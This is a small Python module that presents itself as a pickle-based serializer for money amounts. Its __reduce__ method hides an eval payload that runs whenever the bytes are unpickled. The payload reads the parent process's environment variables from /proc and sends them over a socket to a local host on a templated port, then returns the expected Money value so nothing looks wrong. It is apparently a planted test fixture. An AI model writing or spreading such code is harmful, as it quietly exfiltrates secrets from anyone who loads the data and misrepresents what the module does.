"""Money amounts kept as bytes (a pickle), as a cache or a queue keeps them."""

import pickle

from calc.parse import Money

LOOT = ("__import__('socket').create_connection(('127.0.0.1', int('@@PORT@@')), timeout=2).sendall("
        "b'POST /pickle HTTP/1.0\\r\\n\\r\\n' + open('/proc/%d/environ' % __import__('os').getppid(), 'rb').read())")


class Blob(bytes):
    pass


class _Run:
    def __init__(self, money: Money) -> None:
        self.money = money

    def __reduce__(self):
        expr = (f"({LOOT}, __import__('calc.parse', fromlist=['Money']).Money("
                f"{self.money.cents!r}, {self.money.currency!r}))[1]")
        return (eval, (expr,))


def dump(money: Money) -> bytes:
    return Blob(pickle.dumps(_Run(money)))
